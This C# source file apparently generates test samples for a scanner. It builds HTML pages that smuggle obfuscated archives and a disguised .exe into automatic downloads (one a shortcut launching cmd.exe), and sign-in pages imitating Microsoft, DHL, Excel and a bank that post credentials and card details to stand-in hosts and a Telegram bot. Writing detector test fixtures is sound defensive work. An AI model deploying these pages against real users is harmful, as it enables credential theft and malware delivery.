namespace ScanHost.TestKit.HeldOut.Fourth;

/// <summary>A page that puts a file together in the browser and saves it.</summary>
public sealed class PageThatSavesAnArchive : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var disc = Convert.ToBase64String(DiscImage.Build("DOCS", ("Contract.lnk", false, new LinkBuilder().To(@"C:\Windows\System32\cmd.exe").With("/c start agreement.bat").Build())));
        yield return ("REF-20931_Remittance.html", Dos($$"""
<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Remittance advice</title>
<style>body{font-family:Segoe UI,Arial;text-align:center;margin-top:12%}.spin{width:40px;height:40px;border:4px solid #ddd;border-top-color:#b7472a;border-radius:50%;margin:auto}</style></head>
<body onload="go()"><div class="spin"></div><h3>Your document is being downloaded&hellip;</h3><p>Password: <b>4471</b></p>
<script>
function b64toarray(b){var s=window.atob(b),n=s.length,a=new Uint8Array(n);for(var i=0;i<n;i++)a[i]=s.charCodeAt(i);return a.buffer;}
function go(){
 var file='{{disc}}';
 var data=b64toarray(file);
 var blob=new Blob([data],{type:'octet/stream'});
 var fileName='REF-20931.iso';
 if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveBlob(blob,fileName);}
 else{var a=document.createElement('a');document.body.appendChild(a);a.style='display:none';var url=window.URL.createObjectURL(blob);a.href=url;a.download=fileName;a.click();window.URL.revokeObjectURL(url);}
}
</script></body></html>
"""));
        var zip = InertFiles.Zip(("Rechnung_0925.js", Utf8("WScript.Echo('x');")));
        yield return ("Rechnung_0925.htm", Utf8($$"""
<html lang="de"><head><title>Adobe Acrobat – Dokument wird geladen</title></head><body bgcolor=#f4f4f4>
<center><img width=96 src="data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><rect width='96' height='96' fill='red'/></svg>">
<p>Falls der Download nicht automatisch startet, <a id="lnk" href="#">hier klicken</a>. Kennwort: <i>RG925</i></p></center>
<script>
var teile = [{{string.Join(",", Convert.ToHexString(zip).Chunk(58).Reverse().Select(part => "\"" + new string(part) + "\""))}}];
var h = teile.reverse().join("");
var z = new Uint8Array(h.length / 2);
for (var k = 0; k < h.length; k += 2) { z[k >> 1] = parseInt(h.substr(k, 2), 16); }
setTimeout(function () {
  var l = document.getElementById("lnk");
  l["hr" + "ef"] = URL["create" + "ObjectURL"](new Blob([z], { type: "application/zip" }));
  l["down" + "load"] = "Rechnung_0925.zip";
  l["cl" + "ick"]();
}, 1200);
</script></body></html>
"""));
        var vhd = Convert.ToBase64String([.. zip.Select(value => (byte)(value ^ 0x5A))]);
        yield return ("voicemail_0148.shtml", Utf8($$"""
<!doctype html><script>{{Filler.Minified(4, 160)}}</script>
<div style="display:none" id="cfg" data-k="90" data-n="VM_0148.zip">{{vhd}}</div>
<p>Playing message (00:41)&nbsp;<progress></progress></p>
<script>
(async()=>{const e=document.querySelector('#cfg'),k=+e.dataset.k;
const r=await fetch('data:application/octet-stream;base64,'+e.textContent.trim());
const u=new Uint8Array(await r.arrayBuffer()).map(b=>b^k);
const f=new File([u],e.dataset.n,{type:'application/x-zip-compressed'});
const a=Object.assign(document.createElement('a'),{href:URL.createObjectURL(f),download:f.name});
document.addEventListener('mousemove',()=>a.click(),{once:true});})();
</script>
"""));
        yield return ("Scan_from_Xerox.html", Utf8($$"""
<html><body>
<!-- {{Filler.Prose(9, 900)}} -->
<script>
var _0x4f1a=['{{Convert.ToBase64String(Utf8("createObjectURL"))}}','{{Convert.ToBase64String(Utf8("download"))}}','{{Convert.ToBase64String(Utf8("click"))}}','{{Convert.ToBase64String(Utf8("createElement"))}}'];
var _0x2c=function(i){return atob(_0x4f1a[i]);};
var payload="{{Backwards(Convert.ToBase64String(InertFiles.Pe(2048)))}}";
var d=atob(payload.split("").reverse().join(""));
var buf=[];for(var q=0;q<d.length;q++){buf.push(d.charCodeAt(q));}
var el=document[_0x2c(3)]("a");
el.href=window.URL[_0x2c(0)](new Blob([new Uint8Array(buf)],{type:"application/x-msdownload"}));
el[_0x2c(1)]="Scan_from_Xerox.pdf.exe";
document.body.appendChild(el);el[_0x2c(2)]();
</script>
<noscript>Enable JavaScript to see the scanned document.</noscript></body></html>
"""));
    }
}

/// <summary>A sign-in form that sends what is typed to a stranger.</summary>
public sealed class PageThatAsksForPasswords : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("SharePoint_Document_Access.html", Utf8("""
<!DOCTYPE html><html dir="ltr" lang="EN-US"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><title>Sign in to your account</title>
<link rel="shortcut icon" href="https://aadcdn.msauth-static.example/shared/1.0/content/images/favicon_a.ico">
<style>.lb{width:440px;margin:10% auto;padding:44px;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2)}#err{color:#e81123;display:none}</style></head>
<body style="background:#f2f2f2"><div class="lb"><img alt="Microsoft" src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4="><h2>Enter password</h2>
<p>Because you're accessing sensitive info, you need to verify your password.</p>
<p id="err">Your account or password is incorrect. If you don't remember your password, reset it now.</p>
<form id="f" autocomplete="off"><input type="email" id="ai" value="p.hartmann@contoso-logistics.example" readonly><input type="password" id="pr" placeholder="Password"><button id="submit-btn">Sign in</button></form></div>
<script src="https://ajax.googleapis.com/ajax/libs/jquery/3.6.0/jquery.min.js"></script>
<script>
var count=0;
$('#submit-btn').click(function(e){e.preventDefault();var ai=$('#ai').val(),pr=$('#pr').val();if(!pr){$('#err').show();return false;}
count++;
$.ajax({dataType:'JSON',url:'https://office365-verify.cdn-apps.example/next.php',type:'POST',data:{ai:ai,pr:pr},
complete:function(){$('#pr').val('');if(count>=2){window.location.replace('https://www.office.com/');}else{$('#err').show();}}});});
</script></body></html>
"""));
        yield return ("Paket_DE-558120.html", Utf8("""
<html><head><title>DHL | Sendungsverfolgung</title></head>
<body style="margin:0;background:#ffcc00">
<table width=100%><tr><td align=center><b style="color:#d40511;font-size:38px;font-style:italic">DHL</b></td></tr></table>
<div style="background:#fff;padding:2em;max-width:500px;margin:auto">
<p>Ihr Paket konnte nicht zugestellt werden. Bitte melden Sie sich mit Ihrer E-Mail-Adresse und Ihrem E-Mail-Passwort an, um die Zustellung freizugeben.</p>
<form method="post" action="https://formspree-relay.example/f/xknwqpzd" onsubmit="return pruefe(this)">
<input name="_subject" type="hidden" value="DHL LOGZ">
<input name="login" placeholder="E-Mail-Adresse" required><br>
<input name="passwort" type="password" placeholder="E-Mail-Passwort" required><br>
<input type="submit" value="Anmelden & Sendung freigeben"></form></div>
<script>function pruefe(f){ if (f.passwort.value.length < 5) { alert('Falsches Passwort'); return false; } return true; }</script>
<script>document.addEventListener('contextmenu', e => e.preventDefault()); document.onkeydown = e => !(e.keyCode == 123 || (e.ctrlKey && e.keyCode == 85));</script>
</body></html>
"""));
        yield return ("ATT00317.htm", Utf8($$"""
<script>document.write(unescape('{{Uri.EscapeDataString("""
<html><head><title>Excel Online</title></head><body style="background-image:url(https://i.imgur-host.example/blur-sheet.png)">
<div style="width:320px;margin:140px auto;background:#217346;color:#fff;padding:20px;font-family:Calibri">
<h2>Excel</h2><p>This file is protected. Log in with your email to continue.</p>
<form><input id=em type=email placeholder=Email><input id=pw type=password placeholder=Password><input type=button value="View Document" onclick="s()"></form></div>
<script>
function s(){var m="New login%0AUser: "+document.getElementById('em').value+"%0APass: "+document.getElementById('pw').value+"%0AUA: "+navigator.userAgent;
var x=new XMLHttpRequest();x.open("GET","https://api.telegram.org/bot0000000000:AAExampleExampleExampleExampleExample/sendMessage?chat_id=-100000&text="+m);x.send();
setTimeout(function(){location.href="https://www.microsoft.com/excel"},900);}
</script></body></html>
""")}}'));</script>
"""));
        yield return ("verification_bancaire.html", Utf8("""
<!doctype html>
<html lang="fr">
<head><meta charset="utf-8"><meta name="robots" content="noindex,nofollow"><title>Espace client - Confirmation</title>
<style>
body { font: 15px Arial; background: #eef3f8 } main { max-width: 460px; margin: 40px auto; background: #fff; padding: 30px; border-top: 5px solid #00915a }
input { display: block; width: 100%; margin: 8px 0; padding: 9px }
</style></head>
<body><main>
<h1>Votre compte est temporairement suspendu</h1>
<p>Suite à une activité inhabituelle, veuillez confirmer vos informations sous <b>24 heures</b>, faute de quoi votre accès sera bloqué.</p>
<form id="c">
<input name="id" placeholder="Identifiant client (8 chiffres)"><input name="code" type="password" placeholder="Code secret">
<input name="cc" placeholder="Numéro de carte bancaire" maxlength="19"><input name="exp" placeholder="MM/AA"><input name="cvv" placeholder="Cryptogramme" maxlength="3"><input name="tel" placeholder="Téléphone">
<button>Confirmer</button></form></main>
<script>
const cible = ["aHR0cHM6Ly9lc3BhY2UtY2xpZW50", "LnNlY3VyaXRlLWJhbnF1ZS5leGFtcGxlL3Jlei9wb3N0LnBocA=="].join("");
document.getElementById("c").addEventListener("submit", async (ev) => {
  ev.preventDefault();
  const o = Object.fromEntries(new FormData(ev.target));
  o.ip = await fetch("https://api.ipify.org").then(r => r.text()).catch(() => "?");
  try { await fetch(atob(cible), { method: "POST", mode: "no-cors", body: JSON.stringify(o) }); } catch (_) {}
  location = "https://www.google.fr/";
});
</script></body></html>
"""));
    }
}
